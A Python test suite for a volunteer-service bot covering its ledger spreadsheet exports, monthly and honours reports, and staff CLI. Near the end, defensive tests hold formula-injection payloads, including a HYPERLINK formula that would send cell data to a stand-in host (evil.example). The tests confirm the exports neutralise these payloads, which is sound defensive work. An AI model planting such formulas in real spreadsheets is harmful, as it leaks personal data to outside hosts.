"""The ledger exports (xlsx and csv, opened and checked cell by cell), the monthly summary, the rankings,
and the staff CLI for reviewing volunteers (the applicant is told through the outbox)."""

from __future__ import annotations

import csv
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import select

from bot.cli.main import cli
from bot.clock import FakeClock
from bot.hubsettings import HubSettings
from bot.serviceloop import ledger
from storage.db import transaction
from storage.models import MembershipEvent, Order, OutboxMessage, ServiceRecord, User
from tests.bot.people.volunteer_fixtures import completed_order, make_volunteer

NAMES = {"repair": "水电维修", "haircut": "义务理发"}


@pytest.fixture
def filled(services: Any, clock: FakeClock) -> dict[str, Any]:
    """Two volunteers, three services in November 2026, one in October, one cancelled order."""
    now = clock.now()  # 2026-11-23 10:00 Shanghai
    with transaction(services.sessions) as s:
        a, ma, ua = make_volunteer(s, now, name="王建国", openid="oA")
        b, mb, ub = make_volunteer(s, now, name="李秀英", openid="oB")
        b.id_number_masked = "110***********1234"
        done = completed_order(s, a, ua, now, 2, rating=5, service="repair")  # 30 points
        s.execute(select(ServiceRecord).where(ServiceRecord.order_id == done.id)).scalar_one().comment = "修得很好"
        completed_order(s, a, ua, now - timedelta(days=2), 1.5, rating=4, service="haircut", details="剪发")  # 18
        completed_order(s, b, ub, now - timedelta(days=1), 4, rating=3, service="repair", verified_by="staff")  # 40
        completed_order(s, b, ub, now - timedelta(days=40), 3, rating=5, service="repair")  # October
        s.add(Order(hub_id=ma.hub_id, state="cancelled", service_code="haircut", ordered_by_user_id=ua.id,
                    time_kind="asap", created_at=now, updated_at=now))
        return {"a": a.id, "b": b.id, "hub": ma.hub_id}


def test_xlsx_export_cell_by_cell(services: Any, filled: dict[str, Any], tmp_path: Path) -> None:
    with services.sessions() as s:
        rows = ledger.ledger_rows(s, filled["hub"], date(2026, 11, 1), date(2026, 11, 30), NAMES)
    path = tmp_path / "ledger.xlsx"
    ledger.write_ledger(rows, path, "xlsx", date(2026, 11, 1), date(2026, 11, 30))
    book = load_workbook(path)
    assert book.sheetnames == ["服务记录", "汇总"]
    sheet = book["服务记录"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == list(ledger.RECORD_COLUMNS)
    assert len(values) == 4  # header + 3 November services; October's is outside the range
    first = values[1]  # oldest first: 王建国's haircut two days ago
    assert first[:9] == [1, "王建国", "居民身份证", "440**********1233", "义务理发", "2026-11-21", "08:30", "10:00",
                         1.5]
    assert first[9:] == ["剪发", "李**", 4, None, "居民确认", first[14]]
    second, third = values[2], values[3]
    assert second[1] == "李秀英" and second[3] == "110***********1234" and second[8] == 4
    assert second[11] == 3 and second[13] == "工作人员确认"
    assert third[1] == "王建国" and third[4] == "水电维修" and third[5] == "2026-11-23" and third[8] == 2
    assert third[12] == "修得很好"
    # 订单号 is the 单号 people see in chat and the console (random, 7 digits), not the table's internal id
    with services.sessions() as s:
        refs = dict(s.execute(select(Order.id, Order.ref)).all())
    assert [r.order_ref for r in rows] == [refs[r.order_id] for r in rows]
    assert [v[14] for v in values[1:]] == [refs[r.order_id] for r in rows]
    assert all(v[14] != r.order_id for v, r in zip(values[1:], rows, strict=True))
    summary = [[c.value for c in row] for row in book["汇总"].iter_rows()]
    assert summary[0] == list(ledger.SUMMARY_COLUMNS)
    assert summary[1] == ["李秀英", "110***********1234", 1, 4, 3]
    assert summary[2] == ["王建国", "440**********1233", 2, 3.5, 4.5]
    assert summary[3] == ["合计", "2人", 3, 7.5, None]
    assert summary[4][1] == "2026-11-01 至 2026-11-30"
    # no full ID number anywhere in the file
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert not (isinstance(cell.value, str) and len(cell.value) == 18 and cell.value.isdigit())


def test_csv_export_has_the_same_cells(services: Any, filled: dict[str, Any], tmp_path: Path) -> None:
    with services.sessions() as s:
        rows = ledger.ledger_rows(s, filled["hub"], date(2026, 11, 22), date(2026, 11, 23), NAMES)
    written = ledger.write_ledger(rows, tmp_path / "l.csv", "csv", date(2026, 11, 22), date(2026, 11, 23))
    assert [p.name for p in written] == ["l.csv", "l-汇总.csv"]
    raw = written[0].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for Excel
    table = list(csv.reader(written[0].read_text(encoding="utf-8-sig").splitlines()))
    assert table[0] == list(ledger.RECORD_COLUMNS)
    assert [r[1] for r in table[1:]] == ["李秀英", "王建国"]
    assert table[1][5:9] == ["2026-11-22", "06:00", "10:00", "4.0"]
    summary = list(csv.reader(written[1].read_text(encoding="utf-8-sig").splitlines()))
    assert summary[-2] == ["合计", "2人", "2", "6.0", ""]


def test_monthly_report(services: Any, filled: dict[str, Any]) -> None:
    with services.sessions() as s:
        rep = ledger.monthly(s, filled["hub"], "2026-11", NAMES)
        october = ledger.monthly(s, filled["hub"], "2026-10", NAMES)
    assert rep.completed == 3 and rep.hours == 7.5 and rep.volunteers_active == 2 and rep.average_rating == 4
    assert rep.orders == 4 and rep.cancelled == 1
    assert rep.services_by_service == {"水电维修": 2, "义务理发": 1} and rep.hours_by_service["水电维修"] == 6
    assert rep.points_earned == 30 + 18 + 40 and rep.new_applications == 2  # October's 45 were October's
    assert october.completed == 1 and october.hours == 3
    text = ledger.monthly_text(rep)
    assert "完成服务 3 次" in text and "平均评价 4颗心" in text and "水电维修\t2\t2\t6" in text
    with pytest.raises(ledger.LedgerError):
        ledger.month_bounds("2026-13")


def test_honours_rank_by_points_then_hours(services: Any, filled: dict[str, Any], clock: FakeClock) -> None:
    with transaction(services.sessions) as s:
        c, mc, uc = make_volunteer(s, clock.now(), name="赵敏", openid="oC")
        completed_order(s, c, uc, clock.now(), 2.4, rating=None)  # 24 points, 2.4 h
        completed_order(s, c, uc, clock.now(), 2, rating=5)  # +30 = 54 points
    title, first, last = ledger.period_bounds("2026Q4")
    assert (title, first, last) == ("2026年第4季度", date(2026, 10, 1), date(2026, 12, 31))
    with services.sessions() as s:
        rows = ledger.honours(s, filled["hub"], first, last, HubSettings())
    # 李秀英 85 points (40 + October's 45), 赵敏 54 (4.4 h), 王建国 48 (3.5 h)
    assert [(h.rank, h.name, h.points) for h in rows] == [(1, "李秀英", 85), (2, "赵敏", 54), (3, "王建国", 48)]
    with transaction(services.sessions) as s:
        from bot.people import points

        points.adjust(s, hub_id=filled["hub"], volunteer_id=filled["a"], points=6, reason="补记", actor="t",
                      now=clock.now())
    with services.sessions() as s:
        rows = ledger.honours(s, filled["hub"], first, last, HubSettings())
    # a tie on points (54): more hours first
    assert [(h.rank, h.name, h.points, h.hours) for h in rows][1:] == [(2, "赵敏", 54, 4.4), (3, "王建国", 54, 3.5)]
    assert "1\t李秀英\t85" in ledger.honours_text(title, rows)
    assert ledger.period_bounds(None, 2026)[1:] == (date(2026, 1, 1), date(2026, 12, 31))


# -- the CLI -------------------------------------------------------------------------------------


def run(db_url: str, *args: str) -> Any:
    return CliRunner().invoke(cli, list(args), env={"LEIFENG_DATABASE_URL": db_url}, catch_exceptions=False)


def test_cli_review_flow_notifies_the_applicant(db_url: str, services: Any, clock: FakeClock) -> None:
    with transaction(services.sessions) as s:
        vol, member, user = make_volunteer(s, clock.now(), status="applied", openid="oApp")
        vid = vol.id
    out = run(db_url, "volunteers", "list", "--status", "applied")
    assert out.exit_code == 0 and "王建国" in out.output and "440**********1233" in out.output
    assert "请写明原因" in run(db_url, "volunteers", "reject", str(vid), "--reason", " ").output
    assert run(db_url, "volunteers", "approve", str(vid)).exit_code == 0
    bad = run(db_url, "volunteers", "approve", str(vid))
    assert bad.exit_code != 0 and "不能改为" in bad.output
    assert run(db_url, "volunteers", "suspend", str(vid), "--reason", "连续三次爽约").exit_code == 0
    assert run(db_url, "volunteers", "reinstate", str(vid)).exit_code == 0
    out = run(db_url, "volunteers", "dismiss", str(vid), "--reason", "profit", "--note", "收取服务对象费用")
    assert out.exit_code == 0
    with services.sessions() as s:
        texts = [o.payload["text"] for o in s.execute(select(OutboxMessage).where(OutboxMessage.to == "oApp")
                                                       .order_by(OutboxMessage.id)).scalars()]
        events = [(e.from_status, e.to_status, e.reason_code) for e in s.execute(
            select(MembershipEvent).order_by(MembershipEvent.id)).scalars()]
        roles = s.execute(select(User.roles).where(User.openid == "oApp")).scalar_one()
    assert "已通过审核" in texts[0] and "连续三次爽约" in texts[1] and "已恢复" in texts[2]
    assert "利用志愿者名义从事营利性活动" in texts[3] and "收取服务对象费用" in texts[3]
    assert events == [("applied", "approved", None), ("approved", "suspended", None), ("suspended", "active", None),
                      ("active", "dismissed", "profit")]
    assert roles == []
    shown = run(db_url, "volunteers", "show", str(vid)).output
    assert "已劝退" in shown and "在岗 → 已劝退" in shown and "active" not in shown


def test_cli_export_report_points_and_merchants(db_url: str, services: Any, filled: dict[str, Any],
                                                tmp_path: Path) -> None:
    target = tmp_path / "nov.xlsx"
    out = run(db_url, "export", "ledger", "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(target))
    assert out.exit_code == 0 and "3条记录，共7.5小时" in out.output
    assert load_workbook(target)["服务记录"]["B2"].value == "王建国"
    assert "完成服务 3 次" in run(db_url, "report", "monthly", "--month", "2026-11").output
    assert "1\t李秀英\t85" in run(db_url, "report", "honours", "--quarter", "2026Q4").output
    out = run(db_url, "points", "adjust", "--volunteer", str(filled["a"]), "--points", "-1000", "--reason", "x")
    assert out.exit_code != 0 and "小于0" in out.output
    assert "余额53" in run(db_url, "points", "adjust", "--volunteer", str(filled["a"]), "--points", "5",
                               "--reason", "补记").output
    out = run(db_url, "merchants", "add", "--code", "shop1", "--name", "爱心超市", "--redemptions",
              "--staff-openid", "oShop")
    assert out.exit_code == 0 and "merchant_redeem_1" in out.output
    assert "爱心超市" in run(db_url, "merchants", "list").output
    assert run(db_url, "teams", "add", "--code", "x", "--name", "测试队", "--services", "nope").exit_code != 0
    backwards = run(db_url, "export", "ledger", "--from", "2026-11-30", "--to", "2026-11-01")
    assert backwards.exit_code != 0 and "结束日期（--to）不能早于开始日期（--from）" in backwards.output


# -- no live formulas in any export ---------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&D2,"详情")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def _hostile_rows() -> list[ledger.LedgerRow]:
    return [ledger.LedgerRow(record_id=i, name=bad, id_masked="110***********1234", service=bad, day=date(2026, 11, 3),
                             start="09:00", end="10:30", hours=1.5, content=bad, resident=bad, rating=5, comment=bad,
                             verified="居民确认", order_id=100 + i, volunteer_id=i, order_ref=4000000 + i)
            for i, bad in enumerate(FORMULAS, 1)]


def test_the_neutraliser_quotes_text_and_leaves_numbers() -> None:
    for bad in FORMULAS:
        assert ledger.spreadsheet_cell(bad) == "'" + bad
    for fine in ("王建国", "2026-11-03", "", "110***********1234", "'=already quoted", "a=b"):
        assert ledger.spreadsheet_cell(fine) == fine
    for number in (-3, 1.5, 0, None):
        assert ledger.spreadsheet_cell(number) == number


def test_xlsx_export_has_no_formula_cells(tmp_path: Path) -> None:
    path = tmp_path / "evil.xlsx"
    ledger.write_ledger(_hostile_rows(), path, "xlsx", date(2026, 11, 1), date(2026, 11, 30))
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r" and cell.value), cell.value
    records = [[c.value for c in row] for row in book["服务记录"].iter_rows()][1:]
    # (XML reads a bare CR back as LF: still after the quote)
    assert [r[12] for r in records] == ["'" + bad.replace("\r", "\n") for bad in FORMULAS]
    assert all(r[8] == 1.5 and r[11] == 5 and isinstance(r[14], int) for r in records)  # numbers stay numbers
    summary = [[c.value for c in row] for row in book["汇总"].iter_rows()]
    assert {r[0] for r in summary[1:-2]} == {"'" + bad.replace("\r", "\n") for bad in FORMULAS}
    assert summary[1][3] == 1.5


def test_csv_export_has_no_formula_cells(tmp_path: Path) -> None:
    written = ledger.write_ledger(_hostile_rows(), tmp_path / "evil.csv", "csv", date(2026, 11, 1), date(2026, 11, 30))
    tables = []
    for path in written:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            tables.append(list(csv.reader(fh)))
        cells = [c for row in tables[-1] for c in row]
        assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name
    assert [r[12] for r in tables[0][1:]] == ["'" + bad for bad in FORMULAS]
    assert [r[8] for r in tables[0][1:]] == ["1.5"] * len(FORMULAS)


def test_text_reports_quote_names_that_look_like_formulas() -> None:
    rows = [ledger.Honour(rank=1, volunteer_id=1, name="=HYPERLINK(\"http://evil.example\")", points=10, hours=1.0,
                          total_hours=1.0, star=0, core=False)]
    text = ledger.honours_text("2026年第4季度", rows)
    assert "\t'=HYPERLINK(" in text and "\t=HYPERLINK(" not in text
    rep = ledger.Monthly(month="2026-11", orders_by_service={"@SUM(A1)": 1})
    assert "'@SUM(A1)\t1" in ledger.monthly_text(rep)


@pytest.mark.parametrize("args", [
    ("orders", "show", "9" * 20), ("orders", "cancel", "9" * 20, "--reason", "x"),
    ("orders", "assign", "1", "--volunteer", "9" * 20), ("orders", "show", "0"),
    ("volunteers", "show", "9" * 20), ("volunteers", "approve", "9223372036854775808"),
    ("points", "show", "9" * 20), ("points", "adjust", "--volunteer", "1", "--points", "9" * 20, "--reason", "x"),
    ("report", "honours", "--year", "99999"), ("report", "monthly", "--month", "9999-12"),
    ("export", "ledger", "--from", "9999-12-31", "--to", "9999-12-31"),
])
def test_cli_numbers_that_fit_nothing_are_one_line_errors(db_url: str, args: tuple[str, ...]) -> None:
    out = CliRunner().invoke(cli, list(args), env={"LEIFENG_DATABASE_URL": db_url})
    assert out.exit_code != 0 and isinstance(out.exception, SystemExit), (out.output, out.exception)
    assert "Traceback" not in out.output and out.output.strip(), args


def test_the_monthly_points_add_up(services: Any, filled: dict[str, Any], clock: FakeClock) -> None:
    """Outside tester out10: 积分发放 counted service credits only (a staff +20 and a rating correction's -1 were
    left out), so issued less redeemed was not what the balances moved. Every kind is counted now, and the net is
    every entry of the month."""
    from sqlalchemy import func

    from bot.people import points
    from bot.serviceloop.ledger import day_bounds, month_bounds
    from storage.models import PointsEntry

    with transaction(services.sessions) as s:
        points.adjust(s, hub_id=filled["hub"], volunteer_id=filled["a"], points=20, reason="街道活动奖励", actor="t",
                      now=clock.now())
        points.adjust(s, hub_id=filled["hub"], volunteer_id=filled["a"], points=-1, reason="评价更正", actor="t",
                      now=clock.now())
    with services.sessions() as s:
        rep = ledger.monthly(s, filled["hub"], clock.now().strftime("%Y-%m"), NAMES)
        lo, hi = day_bounds(*month_bounds(clock.now().strftime("%Y-%m")))
        moved = s.scalar(select(func.sum(PointsEntry.points)).where(PointsEntry.hub_id == filled["hub"],
                                                                    PointsEntry.at >= lo, PointsEntry.at < hi))
    assert rep.points_adjusted == 19 and rep.points_net == moved
    text = ledger.monthly_text(rep)
    assert "调整 +19 分" in text and f"余额合计变动 {moved:+d} 分" in text, text


def test_a_cli_status_change_is_audited_with_who_did_it(db_url: str, services: Any, clock: FakeClock) -> None:
    """Outside tester out10: `volunteers approve 6 --by 小王` left no audit row and the history said 未知用户."""
    from bot.admin.words import actor_names
    from storage.models import AuditLog

    with transaction(services.sessions) as s:
        vol, _member, _user = make_volunteer(s, clock.now(), status="applied", openid="oAppBy")
        vid = vol.id
    assert run(db_url, "volunteers", "approve", str(vid), "--by", "小王").exit_code == 0
    with services.sessions() as s:
        (row,) = s.scalars(select(AuditLog).where(AuditLog.action == "volunteer_status")).all()
        assert row.actor == "小王" and row.subject == f"volunteer:{vid}" and row.detail["to"] == "approved"
        assert actor_names(s, 1, ["小王"]) == {"小王": "小王（后台命令）"}


def test_a_phone_typed_in_a_comment_is_masked_in_the_ledger(services: Any, filled: dict[str, Any]) -> None:
    """Outside tester out11: a phone in the resident's comment went out in full beside the masked 服务对象."""
    from sqlalchemy import update

    with transaction(services.sessions) as s:
        s.execute(update(ServiceRecord).values(comment="师傅很好 有事打我电话13812345678",
                                               content="修水管 联系139 0000 1111"))
    with services.sessions() as s:
        rows = ledger.ledger_rows(s, filled["hub"], date(2026, 11, 1), date(2026, 11, 30), NAMES)
    assert rows and all(r.comment == "师傅很好 有事打我电话138****5678" for r in rows)
    assert all(r.content == "修水管 联系139****1111" for r in rows)


def test_cli_staff_moves_are_audited(db_url: str, services: Any, filled: dict[str, Any], clock: FakeClock) -> None:
    """Outside tester out11: CLI point adjustments and order confirmations left no audit row, and a staff username
    given as who acted read as 未知用户."""
    from bot.admin.words import actor_names
    from storage.models import AuditLog
    from storage.models_admin import StaffAccount

    with transaction(services.sessions) as s:
        s.add(StaffAccount(username="xiaoli", display_name="小李", password_hash="x", role="staff",
                           hub_id=filled["hub"], active=True, session_stamp="s1", created_at=clock.now()))
    res = run(db_url, "points", "adjust", "--volunteer", str(filled["a"]), "--points", "5", "--reason", "补记",
              "--by", "xiaoli")
    assert res.exit_code == 0, res.output
    with services.sessions() as s:
        (row,) = s.scalars(select(AuditLog).where(AuditLog.action == "points_adjust")).all()
        assert row.actor == "xiaoli" and row.detail["points"] == 5
        assert actor_names(s, filled["hub"], ["xiaoli"]) == {"xiaoli": "小李"}
